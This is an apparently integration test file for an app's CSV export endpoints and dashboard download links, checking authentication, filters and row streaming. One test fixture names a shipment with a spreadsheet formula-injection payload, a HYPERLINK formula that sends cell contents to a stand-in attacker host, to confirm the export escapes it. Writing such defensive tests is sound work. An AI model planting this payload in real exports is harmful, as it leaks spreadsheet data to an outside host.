"""The CSV exports through the real stack: `GET /api/shipments.csv` and `GET /api/events.csv`
over uvicorn, a real worker and Temporal dev server, SQLite or PostgreSQL
(`FLEXHOOK_TEST_DATABASE=postgresql`), and the dashboard's "Download CSV" links."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlmodel import Session

from app.core.access import Role
from app.store import exports, reads, tokens
from app.store.filters import EventFilter
from tests.integration.harness import Samples, Stack
from tests.integration.test_dashboard import (
    FAILED_EVENT_ID,
    SHIPMENT_ID,
    XSS_NAME,
    XSS_SHIPMENT_ID,
    Dashboard,
    sign_in,
    start_dashboard,
)
from tests.log_registry import register_secret

pytestmark = pytest.mark.integration

FORMULA_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"Quote")'
JOURNEY = ("04_schedule_confirmed", "06_leg_departed", "07_eta_updated", "09_leg_arrived")


def viewer_token(stack: Stack) -> str:
    with Session(stack.engine) as session:
        _, token = tokens.create_token(
            session,
            name="csv-viewer",
            role=Role.VIEWER,
            expires_in=None,
            contact=None,
            created_by="test",
            now=datetime.now(UTC),
        )
        session.commit()
    register_secret(token)
    return token


def rows_of(response: httpx.Response) -> list[dict[str, str]]:
    """The CSV as a spreadsheet or a program reads it: UTF-8 after a byte order mark."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def flat(row: dict[str, Any], header: tuple[str, ...]) -> dict[str, str]:
    """A JSON list's row as the CSV writes it (place flattened; no formula in these samples)."""
    location = row.get("location") or {}
    values = {**row, **{f"location_{key}": value for key, value in location.items()}}
    return {name: "" if values.get(name) is None else str(values[name]) for name in header}


@pytest.fixture
async def journeys(stack: Stack, samples: Samples) -> Stack:
    """A shipment's journey, and another one whose shipper named it with a formula."""
    for name in JOURNEY:
        await stack.deliver(samples.body(name))
    hostile = samples.payload("06_leg_departed", id=samples.fresh_id(99_000_777))
    hostile["data"]["shipment"]["id"] = samples.fresh_id(1)
    hostile["data"]["shipment"]["name"] = FORMULA_NAME
    await stack.deliver(json.dumps(hostile).encode("utf-8"))
    return stack


async def test_no_token_or_a_wrong_one_gets_401_and_a_viewer_the_file(journeys: Stack) -> None:
    for path in ("/api/shipments.csv", "/api/events.csv"):
        assert (await journeys.http.get(path)).status_code == 401
        wrong = {"authorization": "Bearer fxh_not-a-token"}
        assert (await journeys.http.get(path, headers=wrong)).status_code == 401
    viewer = {"authorization": f"Bearer {viewer_token(journeys)}"}
    for path, name in (("/api/shipments.csv", "shipments"), ("/api/events.csv", "events")):
        answer = await journeys.http.get(path, headers=viewer)
        assert rows_of(answer)
        assert answer.headers["content-disposition"] == f'attachment; filename="{name}.csv"'
        assert answer.headers["cache-control"] == "no-store"
        head = await journeys.http.head(path, headers=viewer)
        assert head.status_code == 200
        assert head.headers["content-type"] == "text/csv; charset=utf-8"
        assert head.content == b""


async def test_a_formula_in_a_shipment_name_comes_out_as_text(journeys: Stack) -> None:
    answer = await journeys.api("/shipments.csv")
    names = [row["name"] for row in rows_of(answer)]
    assert "'" + FORMULA_NAME in names
    assert FORMULA_NAME not in names
    assert b"\r\n=HYPERLINK" not in answer.content and b",=HYPERLINK" not in answer.content


async def test_the_shipments_file_is_the_json_list_with_its_filters(journeys: Stack) -> None:
    listed = (await journeys.api("/shipments", limit=500)).json()["shipments"]
    rows = rows_of(await journeys.api("/shipments.csv"))
    assert [row["id"] for row in rows] == [s["id"] for s in listed]
    by_id = {s["id"]: s for s in listed}
    for row in rows:
        if not row["name"].startswith("'"):
            assert row == flat(by_id[row["id"]], reads.SHIPMENT_COLUMNS)
    status = listed[0]["status"]
    only = rows_of(await journeys.api("/shipments.csv", status=status))
    json_only = (await journeys.api("/shipments", status=status)).json()["shipments"]
    assert [row["id"] for row in only] == [s["id"] for s in json_only]
    assert rows_of(await journeys.api("/shipments.csv", status="no-such-status")) == []
    assert len(rows_of(await journeys.api("/shipments.csv", limit=1))) == 1


async def test_the_events_file_is_the_json_list_with_its_filters(journeys: Stack) -> None:
    listed = (await journeys.api("/events", limit=500)).json()["events"]
    some = listed[-1]
    for params in (
        {},
        {"status": "processed"},
        {"type": some["type"]},
        {"shipment_id": some["shipment_id"]},
        {"status": "processed", "type": some["type"], "shipment_id": some["shipment_id"]},
        {"status": "failed"},
    ):
        expected = (await journeys.api("/events", limit=500, **params)).json()["events"]
        rows = rows_of(await journeys.api("/events.csv", **params))
        assert sorted(row["event_id"] for row in rows) == sorted(e["event_id"] for e in expected), (
            params
        )
        by_id = {e["event_id"]: e for e in expected}
        for row in rows:
            event = by_id[row["event_id"]]
            assert {k: row[k] for k in exports.EVENT_COLUMNS} == flat(event, exports.EVENT_COLUMNS)
            assert row["alert_kinds"] == " ".join(a["kind"] for a in event["alerts"])
        received = [row["received_at"] for row in rows]
        assert received == sorted(received, reverse=True)  # newest first, as the list
    assert all("payload" not in row for row in rows_of(await journeys.api("/events.csv")))


async def test_a_bad_parameter_is_refused_as_the_json_lists_refuse_it(stack: Stack) -> None:
    for path in ("/shipments.csv", "/events.csv"):
        answer = await stack.api(path, limit="ten")
        assert answer.status_code == 400
        assert answer.json()["error"] == "bad_request"


# -- the dashboard's links ----------------------------------------------------------------------


@pytest.fixture
async def dashboard(tmp_path: Path) -> AsyncIterator[Dashboard]:
    async with AsyncExitStack() as exits:
        yield await start_dashboard(tmp_path, exits)


@pytest.fixture
async def browser(dashboard: Dashboard) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(base_url=dashboard.base_url, timeout=30) as client:
        yield client


def csv_link(page: httpx.Response) -> str:
    found = re.search(
        r'<a class="button button-quiet" href="([^"]+)" download>Download CSV', page.text
    )
    assert found, "the page has no Download CSV link"
    return found.group(1).replace("&amp;", "&")


async def test_the_dashboards_csv_needs_its_session(browser: httpx.AsyncClient) -> None:
    for path in ("/dashboard/shipments.csv", "/dashboard/events.csv"):
        answer = await browser.get(path)
        assert answer.status_code == 303
        assert httpx.URL(answer.headers["location"]).path == "/dashboard/sign-in"
        assert SHIPMENT_ID not in answer.text


async def test_the_lists_link_to_their_csv_with_their_filters(
    browser: httpx.AsyncClient, dashboard: Dashboard
) -> None:
    assert (await sign_in(browser, dashboard.api_token)).status_code == 303

    page = await browser.get("/dashboard/shipments", params={"q": "script"})
    link = csv_link(page)
    assert link == "/dashboard/shipments.csv?q=script"
    rows = rows_of(await browser.get(link))
    assert [(row["id"], row["name"]) for row in rows] == [(XSS_SHIPMENT_ID, XSS_NAME)]

    everything = rows_of(await browser.get(csv_link(await browser.get("/dashboard/shipments"))))
    assert {SHIPMENT_ID, XSS_SHIPMENT_ID} <= {row["id"] for row in everything}

    failed = await browser.get("/dashboard/events", params={"status": "failed"})
    link = csv_link(failed)
    assert link == "/dashboard/events.csv?status=failed"
    assert [row["event_id"] for row in rows_of(await browser.get(link))] == [FAILED_EVENT_ID]
    mine = await browser.get("/dashboard/events", params={"shipment": XSS_SHIPMENT_ID})
    assert [row["event_id"] for row in rows_of(await browser.get(csv_link(mine)))] == ["99000003"]


async def test_the_rows_come_through_a_cursor_that_streams(journeys: Stack) -> None:
    """PostgreSQL sends rows as they are fetched only through a server-side (named) cursor;
    SQLite's cursor steps through its rows anyway."""
    reader = exports._Reader(journeys.engine, exports.events(EventFilter()), rows_per_chunk=1)
    try:
        assert reader.next_chunk().count(b"\r\n") == 1
        assert reader.result is not None
        cursor = reader.result.cursor  # type: ignore[attr-defined]
        if journeys.engine.dialect.name == "postgresql":
            assert type(cursor).__name__ == "ServerCursor", type(cursor)
        else:
            assert type(cursor).__name__ == "Cursor", type(cursor)
    finally:
        reader.close()
